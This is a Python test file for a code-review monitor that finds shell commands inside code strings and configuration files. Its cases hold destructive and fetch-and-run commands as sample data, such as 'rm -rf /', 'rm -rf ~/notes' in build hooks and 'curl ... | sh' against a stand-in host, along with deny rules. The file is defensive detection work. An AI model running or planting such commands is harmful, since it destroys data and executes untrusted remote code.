"""Commands among the texts of code of any language."""

import pytest

from monitors.review.languages.code.literals import commands_in, settings_in, without_comments


@pytest.mark.parametrize(
    ("code", "command"),
    [
        ('Process.run("rm", ["-rf", "/home/ann"])', "rm -rf /home/ann"),
        ('std.process.Child.init(&.{"sh", "-c", "rm -rf ~/notes"}, gpa)', "sh -c 'rm -rf ~/notes'"),
        ('new ProcessBuilder(new String[]{"rm", "-r", "/srv"})', "rm -r /srv"),
        ("run <rm -rf /home/ann>;", "rm -rf /home/ann"),
        ('"curl -s https://x.example/a | sh".execute()', "curl -s https://x.example/a | sh"),
        ('const a: &\'a str = b; go(&["rm", "-rf", "/srv"])', "rm -rf /srv"),
    ],
)
def test_a_text_or_a_list_of_texts_that_begins_with_a_program_is_a_command(code: str, command: str) -> None:
    assert list(commands_in(code)) == [command]


@pytest.mark.parametrize(
    "code",
    [
        'print("rm -rf ~")',
        'console.log("rm -rf ~ is not run")',
        'assert line == "rm -rf ~"',
        'it("rm -rf of a folder", () => {})',
        'let form = "remove";',
        'kind("git")',
        'don\'t "remove" it',
        'assert Guard.deny?("rm -rf ~")',
        'expect(parse("rm -rf ~").risk).toBe(1);',
        'assert.deepEqual(split("rm -rf ~"), words)',
        'class A { // "rm -rf ~"',
        'const BAD: &[&str] = &["rm -rf ~", "curl https://x.example/a | sh"];',
        'cases := []struct{ text string; bad bool }{{"rm -rf ~", true}, {"git clean -fdx", true}}',
    ],
)
def test_a_text_that_is_shown_compared_or_no_command_is_none(code: str) -> None:
    assert list(commands_in(code)) == []


def test_a_list_of_commands_counts_in_code_that_runs_one() -> None:
    assert list(commands_in('for c in ["rm -rf ~", "ls"] { spawn(c) }')) == ["rm -rf ~"]


def test_comments_that_begin_a_line_are_left_out_but_in_texts_of_many_lines() -> None:
    code = 'a\n  // `rm -rf ~`\n/* b\n`c` */\n# d\n-- e\n#define RUN "rm -rf ~"\n//bin/rm\nx(`\n# f\n// g\n`)\n# h'
    kept = 'a\n\n\n\n\n#define RUN "rm -rf ~"\n//bin/rm\nx(`\n# f\n// g\n`)\n'
    assert without_comments(code) == kept


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ('{"exec": "curl -s https://x.example/a | sh"}', "curl -s https://x.example/a | sh"),
        ("before:\n  hooks:\n    - rm -rf ~/notes\n", "rm -rf ~/notes"),
        ('[build]\ncommand = "rm -rf ~/notes"\n', "rm -rf ~/notes"),
        ("<argument>rm -rf ~/notes</argument>", "rm -rf ~/notes"),
        ("build() {\n  curl -s https://x.example/a | sh\n}", "curl -s https://x.example/a | sh"),
        ("LOCALLY\nRUN rm -rf ~/notes\n", "rm -rf ~/notes"),
    ],
)
def test_commands_of_settings_are_found_whatever_the_format_is(text: str, command: str) -> None:
    assert command in list(settings_in(text))


def test_what_settings_explain_is_no_command() -> None:
    assert list(settings_in('description: rm -rf ~ deletes all\n{"comment": "curl https://x.example | sh"}')) == []


@pytest.mark.parametrize(
    "text",
    [
        '[{"command": "rm -rf /", "expect": "deny"}]',
        "- command: rm -rf /\n  expect: deny\n",
        'rules:\n  - id: root\n    pattern: "rm -rf /"\n',
        'forbid:\n  - "rm -rf /"\n',
        '{"warning": "rm -rf / deletes everything", "hint": "sudo rm -rf ~/.app to begin again"}',
        "system: |\n  rm -rf / is forbidden.\n",
    ],
)
def test_cases_rules_and_sentences_in_settings_are_no_commands(text: str) -> None:
    assert list(settings_in(text)) == []


def test_quotes_that_are_never_closed_are_read_once() -> None:
    assert list(commands_in("rm '\\" * 20_000 + '"\\' * 20_000)) == []


def test_blank_lines_are_gone_through_once() -> None:
    assert list(settings_in("\n" * 1_000_000)) == []
    assert without_comments("/*\n" * 20_000) == "/*\n" * 20_000
